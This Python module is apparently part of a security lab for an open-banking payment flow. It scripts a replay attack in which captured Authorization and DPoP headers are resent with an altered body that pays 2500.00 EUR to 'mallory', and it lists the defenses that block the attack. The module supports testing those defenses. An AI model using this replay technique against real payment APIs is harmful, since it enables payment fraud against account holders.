"""payment-replay-altered-body: FinLens's captured POST /payments resent with a new body.

The A5 attacker reads FinLens's payment request on the resource leg (25.00 EUR to Corner
Café, Authorization and DPoP headers) and at once, well inside the proof's 60 s window,
resends the same headers with a body paying 2500.00 EUR to mallory. A DPoP proof signs
method, URL and token, never the body (RFC 9449 §11.7), so the proof is as good for the
new body as for the old one. It drops FinLens's Idempotency-Key, which would tie the
request to its first body. With http_message_signing on it copies the Signature,
Signature-Input and Content-Digest as well (it cannot make new ones): the digest no longer
matches the new body (RFC 9530), and the signature covers the digest (RFC 9421).
"""

from __future__ import annotations

import json
from typing import Any

from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.capture_view import Leaked
from attacker.forge import payment_body
from attacker.premises import paying_victim

AMOUNT = "2500.00"
COPIED = ("Authorization", "DPoP", "Signature", "Signature-Input", "Content-Digest")


def is_payment(leaked: Leaked) -> bool:
    return leaked.method == "POST" and leaked.path == "/payments"


def _body(leaked: Leaked) -> dict[str, Any]:
    try:
        data = json.loads(leaked.request_body or "")
    except ValueError:
        return {}
    return data if isinstance(data, dict) else {}


def run(ctx: AttackContext) -> None:
    paying_victim(ctx)
    leaked = ctx.capture.last("resource", where=is_payment)
    captured = _body(leaked)
    debtor = str(captured.get("debtor_account_id") or "")
    proof = "with its DPoP proof" if leaked.header("DPoP") else "(no DPoP proof was sent)"
    ctx.step("attacker", f"copies FinLens's POST /payments {proof} and rewrites the body: "
             f"{AMOUNT} EUR to mallory instead of 25.00 EUR to Corner Café")
    headers = {name: value for name in COPIED if (value := leaked.header(name)) is not None}
    if "Signature" in headers:
        ctx.step("attacker", "copies FinLens's Signature, Signature-Input and Content-Digest too: "
                 "it holds no key to sign the new body")
    response = ctx.send("POST", leaked.url, headers=headers, json=payment_body(ctx, debtor, AMOUNT),
                        what="resends the captured headers with the altered body")
    if response.status_code != 201:
        ctx.failed("the bank refused the altered payment", response)
    paid = response.json()
    ctx.succeeded(f"paid {paid['instructed_amount']['amount']} EUR to "
                  f"{paid['creditor']['name']} with FinLens's captured headers",
                  {"payment": paid, "captured": captured})


ATTACK = Attack(
    id="payment-replay-altered-body", attacker="A5", legs=("resource",), victim="prior",
    title="Payment request replayed with a new amount and creditor",
    blocked_by=("dpop_jti_replay", "dpop_nonce", "http_message_signing",
                "payment_consent_binding"),
    premise="Reads one captured TPP→bank POST /payments (URL, Authorization, DPoP, body) and "
            "resends it within the proof's 60 s window with another body; holds no key.",
    goal="2500.00 EUR from the victim's account to mallory", run=run,
    needs={"sender_constraint": "dpop"}, fapi2_blocks=False,
    why_not="a DPoP proof signs no body (FAPI2 §6.2; RFC 9449 §11.7): jti tracking, server "
            "nonces and message signing are only options, and RAR binding is the bank's own",
    refs=("RFC 9449 §11.1, §11.7", "FAPI2 §6.2", "RFC 9421", "RTS Art. 5"),
    not_alone={
        "dpop_nonce": "the lab's nonces are per time step, valid 60-120 s (RFC 9449 §8 leaves "
                      "the lifetime to the server), so a copy sent at once carries a nonce "
                      "that is still good; jti tracking stops the copied proof",
    },
)
